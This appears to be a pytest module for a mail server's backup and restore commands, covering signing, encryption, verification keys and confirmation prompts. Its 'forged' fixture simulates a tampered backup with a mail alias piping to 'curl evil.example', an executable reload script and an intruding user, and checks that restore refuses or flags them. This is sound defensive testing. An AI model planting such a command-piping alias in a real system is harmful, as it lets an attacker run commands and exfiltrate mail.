"""The verbs of backup and restore; what they do is tested beside what does it."""

from __future__ import annotations

import getpass
import json
import os
import sys
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from pydantic import SecretStr

from entrypoint.backup.git import Access, Blob, Commit, Node
from entrypoint.commands import backup
from entrypoint.common import age, identity, locks, signing
from entrypoint.common.identity import Ids
from entrypoint.common.paths import Paths
from tests.unit.backup.test_backup import FIRST, PRIVATE, PUBLIC, SIGN, VERIFY, Box, address, users
from tests.unit.commands.conftest import Server
from tests.unit.kit import EXAMPLE_COM, put
from tests.unit.settings.test_model import HOST_KEY, KEY

__all__ = ["address"]  # the fixture
REMOTE = "git@git.example.com:me/backup.git"


@pytest.fixture
def box(
    server: Server, tmp_path: Path, address: SimpleNamespace, monkeypatch: pytest.MonkeyPatch
) -> Box:
    """The server of the verbs, with a remote beside it."""
    assert address.remote
    context = server.context
    settings = context.settings.model_copy(
        update={
            "backup_git_remote": REMOTE,
            "backup_age_recipient": (PUBLIC,),
            "backup_signing_key": SecretStr(SIGN),
        }
    )
    object.__setattr__(context, "settings", settings)
    box = Box(tmp_path, Paths(tmp_path / "unused"), context.ids)
    box.paths, box.settings = context.paths, settings
    monkeypatch.setattr(backup, "Paths", lambda: context.paths)
    monkeypatch.setattr(Ids, "image", classmethod(lambda _cls: context.ids))
    # It would take descriptor 3, which is the tests' runner's.
    monkeypatch.setattr(locks, "hold_instance", lambda *_: None)
    monkeypatch.setattr(identity, "mend", lambda *_: None)
    monkeypatch.setattr(identity, "drop", lambda *_: None)
    monkeypatch.setattr(os, "environ", {})
    return box


def test_a_backup_by_hand(server: Server, box: Box) -> None:
    done = server.run("backup")
    assert done.status == 0
    assert FIRST in done.out
    assert f"Pushed to {REMOTE}." in done.out
    assert f"all of it is at {REMOTE}." in server.run("backup").out
    put(box.paths.domain(EXAMPLE_COM) / "users", users("i"))
    report = json.loads(server.run("backup", "--json").out)
    assert [item["subject"] for item in report["commits"]] == ["users: add i@example.com"]


def test_one_that_is_not_signed_says_so(server: Server, box: Box) -> None:
    assert "not signed" not in server.run("backup").err
    unsigned = server.context.settings.model_copy(update={"backup_signing_key": None})
    object.__setattr__(server.context, "settings", unsigned)
    done = server.run("backup")
    assert done.status == 0
    assert "docker exec mail backup --new-signing-key" in done.err
    assert box.subjects[-1] == "backup: not signed any more"


def test_the_check(server: Server, box: Box, tmp_path: Path) -> None:
    server.run("backup")
    assert box.subjects
    assert "by their digests" in server.run("backup", "--check").out
    path = put(tmp_path / "identity", f"# mine\n{PRIVATE}\n")
    assert "were decrypted" in server.run("backup", "--check", "--identity", str(path)).out
    given = server.run("backup", "--check", "--json", "--identity", "-", stdin=PRIVATE.encode())
    assert json.loads(given.out)["ok"]
    wrong = server.run("backup", "--check", "--identity", "-", stdin=b"hunter2")
    assert wrong.status == 2
    assert "standard input: holds no private half" in wrong.err
    assert "hunter2" not in wrong.err
    put(box.paths.domain(EXAMPLE_COM) / "users", users("i"))
    failed = server.run("backup", "--check")
    assert failed.status == 75
    assert "users is missing there" in failed.err


def test_a_new_key_needs_no_settings_and_is_shown_once(
    capsys: pytest.CaptureFixture[str], server: Server
) -> None:
    done = server.run("backup", "--new-key")
    [private] = age.identities(done.out)
    [verify] = [line.strip() for line in done.out.splitlines() if "# tambo-verify-" in line]
    [sign] = [line.partition("=")[2] for line in done.out.splitlines() if "SIGNING_KEY=" in line]
    assert signing.verification_keys(verify) == (signing.verification_key(sign),)
    assert f"BACKUP_AGE_RECIPIENT={age.recipient_of(private)}\n" in done.out
    other = json.loads(server.run("backup", "--new-key", "--json").out)
    assert age.recipient_of(other["identity"]) == other["recipient"]
    assert other["identity"] != private
    assert signing.verification_key(other["signing_key"]) == other["verification_key"]
    alone = json.loads(server.run("backup", "--new-signing-key", "--json").out)
    assert signing.verification_key(alone["signing_key"]) == alone["verification_key"]
    assert alone["signing_key"] != other["signing_key"]
    said = server.run("backup", "--new-signing-key").out
    assert "    # tambo-verify-" in said
    assert "    BACKUP_SIGNING_KEY=tambo-sign-" in said
    assert capsys.readouterr().out == ""


@pytest.mark.parametrize(
    ("options", "text"),
    [
        (["--check", "--new-key"], "exclude each other"),
        (["--new-key", "--new-signing-key"], "exclude each other"),
        (["--identity", "x"], "--identity goes with --check"),
        (["--check", "--identity", "/nowhere"], "cannot read '/nowhere'"),
    ],
)
def test_usage_of_backup(server: Server, options: list[str], text: str) -> None:
    done = server.run("backup", *options)
    assert done.status == 2
    assert text in done.err


def test_the_list(server: Server, box: Box) -> None:
    assert "There is no backup yet." in server.run("list-backups").err
    server.run("backup")
    listed = server.run("list-backups").out
    assert listed.endswith(f"  ?           {FIRST}\n"), "no key is known"
    rows = json.loads(server.run("list-backups", "--json").out)
    assert [row["commit"] for row in rows] == [box.remote.head]
    there = json.loads(server.run("list-backups", str(box.remote.path), "--json").out)
    assert there == rows


def test_the_list_says_who_vouches(server: Server, box: Box, tmp_path: Path) -> None:
    server.run("backup")
    change: dict[str, Blob | Node | None] = {"data/reload/x": Blob(b"#!/bin/sh\n", True)}
    box.remote.commit([Commit("theirs", "Server: x 1", change)], "A <a@example.org>", 5)
    remote = str(box.remote.path)
    os.environ["BACKUP_SIGNING_KEY"] = SIGN
    words = [line.split()[3] for line in server.run("list-backups", remote).out.splitlines()]
    assert words == ["unverified", "verified"]
    os.environ.clear()
    path = put(tmp_path / "identity", f"{PRIVATE}\n# {VERIFY}\n")
    rows = json.loads(server.run("list-backups", remote, "--json", "--identity", str(path)).out)
    assert [row["verified"] for row in rows] == [False, True]
    mistyped = put(tmp_path / "mistyped", f"# {VERIFY[:-1]}\n")
    done = server.run("list-backups", remote, "--identity", str(mistyped))
    assert done.status == 2
    assert "is mistyped" in done.err


def test_a_restore(server: Server, box: Box, tmp_path: Path) -> None:
    put(box.paths.domain(EXAMPLE_COM) / "users", users("i"))
    server.run("backup")
    wanted = (box.paths.domain(EXAMPLE_COM) / "users").read_bytes()
    remote = str(box.remote.path)
    full = server.run("restore", remote, "--yes", "--identity", "-", stdin=PRIVATE.encode())
    assert full.status == 1
    assert "the data folder is not empty" in full.err
    put(box.paths.domain(EXAMPLE_COM) / "users", users("other"))
    path = put(tmp_path / "identity", f"{PRIVATE}\n# {VERIFY}\n")
    arguments = ("restore", remote, "--replace", "--identity", str(path))
    asked = server.run(*arguments)
    assert asked.status == 2
    assert "there is no terminal to ask at" in asked.err
    assert "example.com: 1 users, no aliases, 1 DKIM keys" in asked.out
    assert "Verified: signed by this server on 20" in asked.out
    assert "    + i@example.com\n    - other@example.com\n" in asked.out
    refused = server.run(*arguments, stdin=b"n\n", terminal=True)
    assert refused.status == 1
    assert "Nothing was changed." in refused.err
    assert (box.paths.domain(EXAMPLE_COM) / "users").read_bytes() != wanted
    done = server.run(*arguments, stdin=b"y\n", terminal=True)
    assert done.status == 0, done
    assert "What was there before is in data/replaced/" in done.out
    assert "mv data/restored.env .env" in done.out
    assert "Point A and AAAA of smtp.example.com" in done.out
    assert (box.paths.domain(EXAMPLE_COM) / "users").read_bytes() == wanted


def test_a_restore_without_the_identity(server: Server, box: Box) -> None:
    server.run("backup")
    done = server.run("restore", str(box.remote.path), "--replace", "--yes", "--unverified")
    assert done.status == 2
    assert f"the backup is encrypted to {PUBLIC}" in done.err
    assert not box.paths.restoring.exists()


# --- whose backup it is

PIPE, PROGRAM = "sales@example.com", "reload/tell"


@pytest.fixture
def forged(server: Server, box: Box) -> Box:
    """What somebody made who knows the recipient and may write to the repository."""
    server.run("backup")
    domain = box.paths.domain(EXAMPLE_COM)
    put(domain / "users", users("i", "mallory"))
    put(domain / "aliases", "sales: |curl evil.example\n")
    put(box.paths.reload / "tell", "#!/bin/sh\n").chmod(0o700)
    unsigned = box.settings.model_copy(update={"backup_signing_key": None})
    box.work = box.worker(unsigned)
    box.run()
    put(domain / "users", users("i"))
    (domain / "aliases").unlink()
    (box.paths.reload / "tell").unlink()
    return box


def test_what_nobody_vouches_for_is_refused_if_there_is_a_verification_key(
    server: Server, forged: Box, tmp_path: Path
) -> None:
    path = put(tmp_path / "identity", f"{PRIVATE}\n# {VERIFY}\n")
    before = (forged.paths.domain(EXAMPLE_COM) / "users").read_bytes()
    for more in (("--yes",), ("--yes", "--accept", PIPE), ()):
        done = server.run(
            "restore", str(forged.remote.path), "--replace", "--identity", str(path), *more,
            stdin=b"yes\n", terminal=True,
        )  # fmt: skip
        assert done.status == 1
        assert "nothing was restored: the server whose verification key was given" in done.err
        assert "it is not signed" in done.err
        assert "list-backups" in done.err
    assert (forged.paths.domain(EXAMPLE_COM) / "users").read_bytes() == before
    assert not (forged.paths.reload / "tell").exists()
    first = forged.remote.log(forged.remote.head)[-1].oid
    done = server.run(
        "restore", str(forged.remote.path), "--replace", "--identity", str(path), "--yes",
        "--at", first[:12],
    )  # fmt: skip
    assert done.status == 0, done.err
    assert "Verified: signed by this server" in done.out


def test_without_a_verification_key_it_lists_and_wants_a_yes_by_name(
    server: Server, forged: Box, tmp_path: Path
) -> None:
    path = put(tmp_path / "identity", PRIVATE)
    tell = forged.paths.reload / "tell"
    arguments = ("restore", str(forged.remote.path), "--replace", "--identity", str(path))
    asked = server.run(*arguments, "--yes")
    assert asked.status == 1
    assert "Nobody vouches for this backup: it is not signed" in asked.out
    for line in ("+ mallory@example.com", "+ sales@example.com: | curl evil.example",
                 "+ reload/tell"):  # fmt: skip
        assert f"    {line}\n" in asked.out
    assert "add --unverified --yes" in asked.err
    named = server.run(*arguments, "--yes", "--unverified")
    assert named.status == 1
    assert f"--accept {PROGRAM}" in named.err
    assert f"--accept {PIPE}" in named.err
    half = server.run(*arguments, "--yes", "--unverified", "--accept", PIPE)
    assert half.status == 1
    assert f"--accept {PIPE}" not in half.err
    names = f"{PROGRAM}\n{PIPE}\n"
    for answers in ("y\n", "yes\n", f"{names}y\n", f"{PROGRAM}\nyes\nyes\n", "\n"):
        typed = server.run(*arguments, stdin=answers.encode(), terminal=True)
        assert typed.status == 1, answers
        assert "Nothing was changed." in typed.err
    assert not tell.exists()
    ordered = f"{PIPE}\n{PROGRAM}\n"
    done = server.run(*arguments, stdin=f"{ordered}yes\n".encode(), terminal=True)
    assert done.status == 0, done.out + done.err
    assert tell.exists()


def test_all_by_name_without_a_terminal(server: Server, forged: Box, tmp_path: Path) -> None:
    path = put(tmp_path / "identity", PRIVATE)
    done = server.run(
        "restore", str(forged.remote.path), "--replace", "--identity", str(path), "--yes",
        "--unverified", "--accept", PIPE, "--accept", PROGRAM,
    )  # fmt: skip
    assert done.status == 0, done.err
    assert (forged.paths.reload / "tell").exists()


def test_on_the_same_machine_the_servers_own_key_vouches(
    server: Server, forged: Box, tmp_path: Path
) -> None:
    path = put(tmp_path / "identity", PRIVATE)
    os.environ["BACKUP_SIGNING_KEY"] = SIGN
    arguments = ("restore", str(forged.remote.path), "--replace", "--identity", str(path), "--yes")
    assert "does not vouch" in server.run(*arguments).err
    first = forged.remote.log(forged.remote.head)[-1].oid
    done = server.run(*arguments, "--at", first[:12])
    assert done.status == 0, done.err
    assert "Verified: signed by this server" in done.out


def test_an_older_tree_put_in_front_again_is_told(server: Server, box: Box, tmp_path: Path) -> None:
    server.run("backup")
    old = box.remote.tree(box.remote.head)
    put(box.paths.domain(EXAMPLE_COM) / "users", users("i"))
    server.run("backup")
    new = box.remote.tree(box.remote.head)
    back: dict[str, Blob | Node | None] = {**dict.fromkeys(new.keys() - old.keys()), **old}
    box.remote.commit([Commit("users: new", "Server: x 1", back)], "A <a@example.org>", 1_900_000_000)  # fmt: skip  # noqa: E501
    path = put(tmp_path / "identity", f"{PRIVATE}\n# {VERIFY}\n")
    done = server.run("restore", str(box.remote.path), "--replace", "--identity", str(path))
    assert "users: new" in done.out
    assert "2030" not in done.out, "its own date, not the one that the commit says"
    assert "as number 1," in done.out
    assert "It stands at place 3 of the history: an older backup was put in front" in done.out


def test_the_verification_key_is_asked_for(
    server: Server, box: Box, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(getpass, "getpass", lambda _prompt: sys.stdin.readline().strip())
    server.run("backup")
    assert box.remote.head
    arguments = ("restore", str(box.remote.path), "--replace")
    done = server.run(*arguments, stdin=f"{PRIVATE}\n{VERIFY}\ny\n".encode(), terminal=True)
    assert done.status == 0, done.err
    assert "Verified: signed by this server" in done.out
    mistyped = server.run(*arguments, stdin=f"{PRIVATE}\n{VERIFY[:-1]}\n".encode(), terminal=True)
    assert mistyped.status == 2
    assert "is mistyped" in mistyped.err
    other = server.run(*arguments, stdin=f"{PRIVATE}\nhunter2\n".encode(), terminal=True)
    assert other.status == 2
    none = server.run(*arguments, stdin=f"{PRIVATE}\n\nno\n".encode(), terminal=True)
    assert "it is signed, but no verification key was given to compare with" in none.out
    assert none.status == 1


def test_an_interrupted_restore_is_completed_first(server: Server, box: Box) -> None:
    server.run("backup")
    put(box.paths.restored / "plan.json", '{"aside": "20260301T000000Z"}')
    put(box.paths.restored / "new/reload/tell", "x")
    done = server.run("restore", str(box.remote.path), "--yes")
    assert "Completing a restore that was interrupted." in done.err
    assert (box.paths.reload / "tell").read_text() == "x"
    assert not box.paths.restored.exists()


# --- the door


def door(paths: Paths, environ: dict[str, str], **given: Any) -> Access:
    values = {"remote": None, "key": None, "host_key": None, "token_file": None, **given}
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(os, "environ", environ)
        return backup._access(paths=paths, **values)


def test_the_door_is_what_is_given_then_what_is_set(paths: Paths, tmp_path: Path) -> None:
    key = put(tmp_path / "key", f"{KEY}\n")
    environ = {
        "BACKUP_GIT_REMOTE": REMOTE, "BACKUP_GIT_KEY_FILE": str(key),
        "BACKUP_GIT_HOST_KEY": HOST_KEY,
    }  # fmt: skip
    assert door(paths, environ) == Access(REMOTE, KEY, (HOST_KEY,))
    other = "ssh-ed25519 " + "B" * 68
    assert door(paths, environ, host_key=other).host_keys == (other,)
    put(paths.data / "backup.key", KEY.replace("c2VjcmV0", "b3RoZXI="))
    assert "c2VjcmV0" in door(paths, environ).key
    assert "b3RoZXI=" in door(paths, {}, remote=REMOTE, host_key=HOST_KEY).key
    token = put(tmp_path / "token", "tok3n\n")
    found = door(paths, {}, remote="https://git.example.com/x.git", token_file=str(token))
    assert found.token == "tok3n"
    assert door(paths, {}, remote="/data/backup") == Access("/data/backup")
